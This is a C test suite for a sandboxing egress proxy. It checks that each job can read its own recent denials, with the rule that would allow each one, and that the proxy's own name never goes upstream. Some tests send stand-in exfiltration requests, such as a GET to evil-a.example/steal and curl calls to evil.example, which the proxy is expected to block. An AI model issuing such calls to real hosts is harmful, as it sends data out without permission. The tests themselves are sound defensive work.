/*
 * "Why was I refused?" asked from inside a job: GET
 * http://cordon.local/v1/denials, answered by the proxy itself from the
 * job's own ring of recent denials, each with the rule that would allow
 * it. A real broker, proxy and hatch; on the channels directly (two jobs
 * at once: neither sees the other's), and from inside `cordon run` jobs,
 * through HTTP_PROXY and through the transparent capture with no proxy
 * at all. A manifest that names cordon.local itself, and a resolver that
 * knows it, show that no spelling of the name is ever sent upstream.
 */
#include "harness.h"
#include "upstream.h"

#include <check.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <unistd.h>

static struct stack st;
static struct upstream *plain;
static json_t *last; /* the last run's result */

static void
setup(void)
{
	char path[400];
	struct stack_options o = { .uid_base = 523000,
		.hosts = "127.0.0.1 api.test cordon.local\n" };

	signal(SIGPIPE, SIG_IGN);
	plain = upstream_start(NULL, NULL);
	ck_assert_ptr_nonnull(plain);
	stack_start(&st, &o);
	snprintf(path, sizeof(path), "%s/repo", st.inputs);
	ck_assert_int_eq(mkdir(path, 0755), 0);
	snprintf(path, sizeof(path), "%s/repo/README.md", st.inputs);
	harness_write_file(path, "hello\n");
	/* A rule for cordon.local too, on the upstream: were the name ever
	 * judged as egress, it would be forwarded there. */
	json_t *m = json_pack("{s:s, s:[s], s:[{s:s, s:i, s:[s], s:[s], s:s, "
			      "s:[s]}, {s:s, s:i, s:[s], s:s, s:[s]}], "
			      "s:{s:i}}",
	    "name", "why-job", "command", "/bin/true", "egress", "host",
	    "api.test", "port", upstream_port(plain), "methods", "GET", "paths",
	    "/ok/", "reason", "the api", "allow_cidrs", "127.0.0.0/8", "host",
	    "cordon.local", "port", upstream_port(plain), "methods", "GET",
	    "reason", "a decoy", "allow_cidrs", "127.0.0.0/8", "limits",
	    "wall_seconds", 60);
	json_decref(harness_expect(&st.broker, 200, "PUT",
	    "/v1/manifests/why-job", st.admin, NULL, m));
}

static void
teardown(void)
{
	json_decref(last);
	last = NULL;
	upstream_stop(plain);
	stack_stop(&st);
}

/* A job of why-job at the broker, its channel opened at the proxy. */
static void
open_job(char *id, size_t idlen, char *chan, size_t chanlen)
{
	json_t *j = harness_expect(&st.broker, 201, "POST", "/v1/jobs",
	    st.launcher, NULL, json_pack("{s:s}", "manifest", "why-job"));
	char path[128];

	snprintf(id, idlen, "%s", json_string_value(json_object_get(j, "job")));
	json_decref(j);
	snprintf(path, sizeof(path), "/v1/jobs/%s", id);
	j = harness_expect(&st.proxy, 201, "POST", path, st.launcher, NULL,
	    NULL);
	snprintf(chan, chanlen, "%s",
	    json_string_value(json_object_get(j, "channel")));
	json_decref(j);
}

/* One exchange on a new connection to chan: the answer (free it). */
static char *
send_on(const char *chan, const char *req)
{
	int fd = unix_connect(chan);

	ck_assert_int_ge(fd, 0);
	char *out = http_exchange(fd, req, strlen(req), 5000);
	close(fd);
	ck_assert_ptr_nonnull(out);
	return out;
}

/* The status of an answer and its JSON body (json_decref it). */
static json_t *
ask(const char *chan, const char *req, int *status)
{
	char *out = send_on(chan, req);
	const char *body = strstr(out, "\r\n\r\n");

	*status = 0;
	(void)sscanf(out, "HTTP/1.%*d %d", status);
	json_t *j = body != NULL ? json_loads(body + 4, 0, NULL) : NULL;
	free(out);
	return j;
}

/* The denial of host in a denials answer, or NULL. */
static json_t *
denial_of(json_t *answer, const char *host)
{
	json_t *e;
	size_t i;

	json_array_foreach(json_object_get(answer, "denials"), i, e)
	{
		const char *h = json_string_value(json_object_get(e, "host"));
		if (h != NULL && strcmp(h, host) == 0)
			return e;
	}
	return NULL;
}

static const char ask_denials[] =
    "GET http://cordon.local/v1/denials HTTP/1.1\r\n"
    "Host: cordon.local\r\n\r\n";

/* Whether job's decision log at the proxy has a line for host. */
static bool
logged(const char *job, const char *host)
{
	char path[128];
	long status = 0;
	bool seen = false;
	json_t *e;
	size_t i;

	snprintf(path, sizeof(path), "/v1/jobs/%s/log", job);
	json_t *j = harness_call(&st.proxy, "GET", path, st.launcher, NULL,
	    NULL, &status);
	ck_assert_int_eq(status, 200);
	json_array_foreach(json_object_get(j, "decisions"), i, e)
	{
		const char *h = json_string_value(json_object_get(e, "host"));
		seen = seen || (h != NULL && strcasecmp(h, host) == 0);
	}
	json_decref(j);
	return seen;
}

/* Two jobs at once: each asks and reads its own denials only, with the
 * rule that would allow each; asking is no denial, and no spelling of
 * cordon.local goes upstream. */
START_TEST(each_job_reads_its_own_denials_only)
{
	char a[64], b[64], ca[300], cb[300];
	int status;

	open_job(a, sizeof(a), ca, sizeof(ca));
	open_job(b, sizeof(b), cb, sizeof(cb));
	free(send_on(ca,
	    "GET http://evil-a.example/steal?k=v HTTP/1.1\r\n"
	    "Host: evil-a.example\r\n\r\n"));
	free(send_on(cb,
	    "CONNECT evil-b.example:443 HTTP/1.1\r\n"
	    "Host: evil-b.example:443\r\n\r\n"));
	char req[256];
	snprintf(req, sizeof(req),
	    "POST http://api.test:%u/ok/x HTTP/1.1\r\nHost: api.test:%u\r\n"
	    "Content-Length: 0\r\n\r\n",
	    upstream_port(plain), upstream_port(plain));
	free(send_on(cb, req));

	json_t *ja = ask(ca, ask_denials, &status);
	ck_assert_int_eq(status, 200);
	ck_assert_ptr_nonnull(ja);
	json_t *e = denial_of(ja, "evil-a.example");
	ck_assert_msg(e != NULL, "%s", json_dumps(ja, 0));
	ck_assert_str_eq(json_string_value(json_object_get(e, "reason")),
	    "no_rule");
	ck_assert_str_eq(json_string_value(json_object_get(e, "path")),
	    "/steal");
	json_t *want = json_pack("{s:s, s:i, s:[s], s:[s], s:s}", "host",
	    "evil-a.example", "port", 80, "methods", "GET", "paths", "/steal",
	    "reason", "say why the job must reach this");
	ck_assert_msg(json_equal(json_object_get(e, "rule"), want), "%s",
	    json_dumps(e, 0));
	json_decref(want);
	ck_assert_ptr_null(denial_of(ja, "evil-b.example"));
	ck_assert_ptr_null(denial_of(ja, "api.test"));
	ck_assert_str_eq(json_string_value(json_object_get(ja, "job")), a);
	json_decref(ja);

	json_t *jb = ask(cb, ask_denials, &status);
	ck_assert_int_eq(status, 200);
	ck_assert_ptr_null(denial_of(jb, "evil-a.example"));
	ck_assert_ptr_nonnull(denial_of(jb, "evil-b.example"));
	e = denial_of(jb, "api.test");
	ck_assert_msg(e != NULL, "%s", json_dumps(jb, 0));
	ck_assert_str_eq(json_string_value(json_object_get(e, "reason")),
	    "method");
	ck_assert_str_eq(json_string_value(
			     json_array_get(json_object_get(json_object_get(e,
								"rule"),
						"methods"),
				 0)),
	    "POST");
	json_decref(jb);

	/* Every spelling of the name, by every route: answered here. */
	char with_port[64];
	snprintf(with_port, sizeof(with_port), "cordon.local:%u",
	    upstream_port(plain));
	const char *const spellings[] = { "CORDON.Local", "cordon.local.",
		with_port };
	for (size_t i = 0; i < sizeof(spellings) / sizeof(spellings[0]); i++) {
		snprintf(req, sizeof(req),
		    "GET http://%s/v1/denials HTTP/1.1\r\nHost: %s\r\n\r\n",
		    spellings[i], spellings[i]);
		json_t *j = ask(ca, req, &status);
		ck_assert_msg(status == 200 && denial_of(j, "evil-a.example"),
		    "%s: %d", req, status);
		json_decref(j);
	}
	snprintf(req, sizeof(req),
	    "GET http://cordon.local:%u/ok/x HTTP/1.1\r\n"
	    "Host: cordon.local:%u\r\n\r\n",
	    upstream_port(plain), upstream_port(plain));
	json_decref(ask(ca, req, &status));
	ck_assert_int_eq(status, 404);
	snprintf(req, sizeof(req),
	    "CONNECT cordon.local:%u HTTP/1.1\r\nHost: cordon.local:%u\r\n\r\n",
	    upstream_port(plain), upstream_port(plain));
	json_decref(ask(ca, req, &status));
	ck_assert_int_eq(status, 403);
	json_decref(ask(ca,
	    "CONNECT Cordon.Local.:443 HTTP/1.1\r\n"
	    "Host: Cordon.Local.:443\r\n\r\n",
	    &status));
	ck_assert_int_eq(status, 403);
	ck_assert_uint_eq(upstream_requests(plain), 0);
	ck_assert_uint_eq(upstream_connections(plain), 0);

	/* Asking was no denial: still one in A's ring, none in its log. */
	ja = ask(ca, ask_denials, &status);
	ck_assert_int_eq(json_integer_value(json_object_get(ja, "kept")), 1);
	json_decref(ja);
	ck_assert(!logged(a, "cordon.local"));
	ck_assert(!logged(a, "cordon.local."));
	ck_assert(logged(a, "evil-a.example"));
}
END_TEST

/* Past the job's budget of log lines the ring still keeps every
 * denial: the last 64, newest first, and the count of all. */
START_TEST(the_ring_keeps_the_last_denials_past_the_log_budget)
{
	char a[64], ca[300], req[256];
	int status;

	open_job(a, sizeof(a), ca, sizeof(ca));
	for (int i = 0; i < 250; i++) {
		snprintf(req, sizeof(req),
		    "GET http://evil-%d.example/x HTTP/1.1\r\n"
		    "Host: evil-%d.example\r\n\r\n",
		    i, i);
		free(send_on(ca, req));
	}
	json_t *j = ask(ca, ask_denials, &status);
	ck_assert_int_eq(status, 200);
	ck_assert_int_eq(json_integer_value(json_object_get(j, "kept")), 64);
	ck_assert_int_eq(json_integer_value(json_object_get(j, "total")), 250);
	json_t *list = json_object_get(j, "denials");
	ck_assert_str_eq(json_string_value(
			     json_object_get(json_array_get(list, 0), "host")),
	    "evil-249.example");
	ck_assert_str_eq(json_string_value(
			     json_object_get(json_array_get(list, 63), "host")),
	    "evil-186.example");
	json_decref(j);
}
END_TEST

/* Runs `cordon run --json` of why-job with script under /bin/sh -c: the
 * job's stdout (free it). */
static char *
run_stdout(const char *script)
{
	static char out[1 << 20], err[1 << 16];
	char input[400];
	char *argv[] = { (char *)harness_bin("cordon"), "run", "--json",
		"--config", st.launcher_cfg, "--manifest", "why-job", "--input",
		input, "--", "/bin/sh", "-c", (char *)script, NULL };

	snprintf(input, sizeof(input), "%s/repo:repo", st.inputs);
	int status =
	    harness_run_for(argv, 60000, out, sizeof(out), err, sizeof(err));
	json_t *j = json_loads(out, 0, NULL);
	ck_assert_msg(j != NULL, "no JSON from cordon run (status %d): %s\n%s",
	    status, out, err);
	const char *text = json_string_value(
	    json_object_get(json_object_get(json_object_get(j, "output"),
				"stdout"),
		"text"));
	char *copy = strdup(text != NULL ? text : "");
	ck_assert_msg(status == 0, "cordon run: %d\n%s\n%s", status, copy, err);
	json_decref(last);
	last = j;
	return copy;
}

/* Inside a real job: curl through HTTP_PROXY, and python's urllib with
 * no proxy at all (the job's resolver and the capture), each read the
 * job's denials and the rule for each. */
START_TEST(a_job_asks_why_through_the_proxy_and_without_it)
{
	char script[2048];
	unsigned port = upstream_port(plain);

	snprintf(script, sizeof(script),
	    "getent hosts secret.evil.example; echo getent=$?\n"
	    "curl -s -o /dev/null -w 'evil %%{http_code}\\n' "
	    "http://evil.example/x\n"
	    "curl -s -o /dev/null -w 'path %%{http_code}\\n' "
	    "http://api.test:%u/no/such\n"
	    "curl -s http://cordon.local/v1/denials; echo\n"
	    "echo ---\n"
	    "/usr/bin/python3 -c \"import urllib.request as u,json\n"
	    "o=u.build_opener(u.ProxyHandler({}))\n"
	    "d=json.load(o.open('http://cordon.local/v1/denials'))\n"
	    "print('captured',d['denials'][0]['host'],"
	    "' '.join(sorted(set(x['host'] for x in d['denials']))))\"\n",
	    port);
	char *out = run_stdout(script);

	ck_assert_msg(strstr(out, "evil 403\n") != NULL, "%s", out);
	ck_assert_msg(strstr(out, "path 403\n") != NULL, "%s", out);
	ck_assert_msg(strstr(out, "getent=2\n") != NULL, "%s", out);
	char *sep = strstr(out, "---\n");
	ck_assert_ptr_nonnull(sep);
	*sep = '\0';
	char *line = strstr(out, "{\"job\"");
	ck_assert_msg(line != NULL, "%s", out);
	json_t *j = json_loads(line, JSON_DISABLE_EOF_CHECK, NULL);
	ck_assert_msg(j != NULL, "%s", line);
	json_t *e = denial_of(j, "evil.example");
	ck_assert_ptr_nonnull(e);
	ck_assert_str_eq(json_string_value(json_object_get(e, "kind")), "http");
	e = denial_of(j, "api.test");
	ck_assert_msg(e != NULL, "%s", line);
	ck_assert_str_eq(json_string_value(json_object_get(e, "reason")),
	    "path");
	ck_assert_str_eq(json_string_value(
			     json_array_get(json_object_get(json_object_get(e,
								"rule"),
						"paths"),
				 0)),
	    "/no/such");
	e = denial_of(j, "secret.evil.example");
	ck_assert_msg(e != NULL, "%s", line);
	/* A refused name is a rule for the name, on 443. */
	ck_assert_ptr_null(json_object_get(json_object_get(e, "rule"), "port"));
	ck_assert_ptr_null(
	    json_object_get(json_object_get(e, "rule"), "paths"));
	ck_assert_ptr_null(denial_of(j, "cordon.local"));
	json_decref(j);
	ck_assert_msg(strstr(sep + 4,
			  "captured api.test api.test evil.example "
			  "secret.evil.example\n") != NULL,
	    "%s", sep + 4);
	free(out);
	ck_assert_uint_eq(upstream_requests(plain), 0);
	ck_assert_int_ge(json_integer_value(
			     json_object_get(json_object_get(last, "egress"),
				 "denied")),
	    3);
}
END_TEST

static Suite *
suite(void)
{
	Suite *s = suite_create("denials");
	TCase *tc = tcase_create("denials");

	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_set_timeout(tc, 120);
	tcase_add_test(tc, each_job_reads_its_own_denials_only);
	tcase_add_test(tc, the_ring_keeps_the_last_denials_past_the_log_budget);
	tcase_add_test(tc, a_job_asks_why_through_the_proxy_and_without_it);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	return harness_main(suite());
}
